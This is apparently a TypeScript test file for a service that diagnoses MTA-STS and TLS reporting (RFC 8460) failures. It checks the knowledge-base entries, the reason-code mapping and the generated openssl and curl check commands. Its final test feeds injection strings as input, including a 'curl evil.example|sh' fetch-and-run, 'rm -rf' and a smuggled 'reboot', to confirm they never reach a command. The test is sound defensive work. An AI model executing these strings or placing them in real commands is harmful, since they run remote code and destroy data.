// The diagnosis knowledge base: an entry for every RFC 8460 result type (a test fails when one is added without
// one), every failure-reason-code of the corpus mapped to a canonical cause, and hostile values never in a command.
import { describe, expect, it } from 'vitest';
import { RESULT_TYPES } from '../../schemas/report.ts';
import {
  diagnose,
  REASON_CODES,
  reasonCause,
  RESULT_TYPE_DIAGNOSES,
  safeHost,
  type Entry,
  type FailureEvidence,
} from '../../services/api/diagnosis.ts';
import { corpusReports } from '../helpers/corpus.ts';

const detail = (over: Partial<FailureEvidence> = {}): FailureEvidence => ({
  resultType: 'certificate-not-trusted',
  failedSessionCount: 14,
  receivingMxHostname: 'mx2.example.com',
  receivingIp: '198.51.100.7',
  sendingMtaIp: '209.85.220.41',
  failureReasonCode: null,
  additionalInformation: null,
  ...over,
});

describe('the knowledge base', () => {
  it('has an entry, complete, for every RFC 8460 result type and for no-policy-found', () => {
    for (const type of [...RESULT_TYPES, 'no-policy-found']) {
      const entry = (RESULT_TYPE_DIAGNOSES as Record<string, Entry>)[type];
      expect(entry, type).toBeDefined();
      expect(entry!.title.length, type).toBeGreaterThan(3);
      expect(entry!.meaning.length, type).toBeGreaterThan(20);
      expect(entry!.causes.length, type).toBeGreaterThan(0);
      expect(entry!.checks.length, type).toBeGreaterThan(0);
      expect(entry!.fix.length, type).toBeGreaterThan(0);
    }
    expect(Object.keys(RESULT_TYPE_DIAGNOSES).sort()).toEqual([...RESULT_TYPES, 'no-policy-found'].sort());
  });

  it('maps every failure-reason-code of the real corpus to a canonical cause', () => {
    const codes = new Set<string>();
    for (const r of corpusReports()) {
      const report = JSON.parse(r.json) as { policies?: Array<{ 'failure-details'?: Array<Record<string, unknown>> }> };
      for (const p of report.policies ?? [])
        for (const d of p['failure-details'] ?? []) {
          const code = d['failure-reason-code'];
          if (typeof code === 'string') codes.add(code);
        }
    }
    expect(codes.size).toBeGreaterThanOrEqual(4);
    for (const code of codes) expect(reasonCause(code)?.cause, code).toBeDefined();
    expect(reasonCause('bad https response code: 404')?.cause).toBe('policy-http-404');
    expect(reasonCause('bad https response code: 500')?.cause).toBe('policy-http-5xx');
    expect(reasonCause('X509_V_ERR_PROXY_PATH_LENGTH_EXCEEDED')?.cause).toBe('certificate-path-length');
    expect(reasonCause('X509_V_ERR_CERT_HAS_EXPIRED')?.cause).toBe('certificate-expired');
    expect(reasonCause('unable to do http request: context deadline exceeded')?.cause).toBe('timeout');
    expect(reasonCause('something no sender ever wrote')).toBeUndefined();
    // Every pattern is reachable: none is shadowed by one before it for its own example.
    expect(new Set(REASON_CODES.map((r) => r.cause)).size).toBe(REASON_CODES.length);
  });
});

describe('diagnose', () => {
  it('says the failure in one sentence with its evidence, and fills the check commands', () => {
    const d = diagnose(detail(), { policyDomain: 'example.com', organization: 'Google Inc.' });
    expect(d.sentence).toBe(
      'Google Inc. reported 14 failed sessions at mx2.example.com (198.51.100.7) from 209.85.220.41: certificate not trusted.',
    );
    expect(d.fault).toBe('your-mx');
    expect(d.checks[0]).toBe(
      'openssl s_client -starttls smtp -connect mx2.example.com:25 -servername mx2.example.com -showcerts </dev/null',
    );
    const fetch = diagnose(
      detail({
        resultType: 'sts-policy-fetch-error',
        receivingMxHostname: null,
        receivingIp: null,
        failureReasonCode: 'bad https response code: 404',
        failedSessionCount: 1,
      }),
      {
        policyDomain: 'example.com',
        organization: 'Mail.ru',
      },
    );
    expect(fetch.sentence).toBe(
      'Mail.ru reported 1 failed session for example.com from 209.85.220.41: MTA-STS policy could not be fetched.',
    );
    expect(fetch.checks[0]).toBe('curl -sv --max-time 10 https://mta-sts.example.com/.well-known/mta-sts.txt');
    expect(fetch.reasonCode).toMatchObject({ cause: 'policy-http-404' });
  });

  it('names the sending IPs the reports named, however many, and formats counts as the tables do', () => {
    const several = { sendingMtaIp: null, sendingIps: { count: 8, top: ['209.85.220.41', '209.85.220.42'] } };
    const d = diagnose(detail({ ...several, failedSessionCount: 9740 }), {
      policyDomain: 'example.com',
      organization: '2 reporters',
    });
    expect(d.sentence).toBe(
      '2 reporters reported 9,740 failed sessions at mx2.example.com (198.51.100.7) from 8 sending IPs (most: 209.85.220.41, 209.85.220.42): certificate not trusted.',
    );
    const none = diagnose(detail({ sendingMtaIp: null, sendingIps: { count: 0, top: [] } }), {
      policyDomain: 'example.com',
      organization: 'Microsoft Corporation',
    });
    expect(none.sentence).not.toMatch(/ from /);
  });

  it('never puts a hostile value into a command, and keeps an unknown result type as it came', () => {
    const evil = '$(curl evil.example|sh); rm -rf ~ `id`';
    const d = diagnose(
      detail({ receivingMxHostname: evil, receivingIp: 'not-an-ip;reboot', resultType: 'Weird-Type' }),
      {
        policyDomain: 'a.example; rm -rf /',
        organization: 'x',
      },
    );
    for (const command of d.checks) {
      expect(command).not.toMatch(/evil|rm -rf|reboot|\$\(|`/);
      expect(command).toContain('<mx-host>');
    }
    expect(d.known).toBe(false);
    expect(d.resultType).toBe('Weird-Type');
    expect(safeHost('MX1.Example.COM.')).toBe('MX1.Example.COM');
    expect(safeHost('2001:db8::1')).toBe('2001:db8::1');
    expect(safeHost('a b')).toBeUndefined();
  });
});
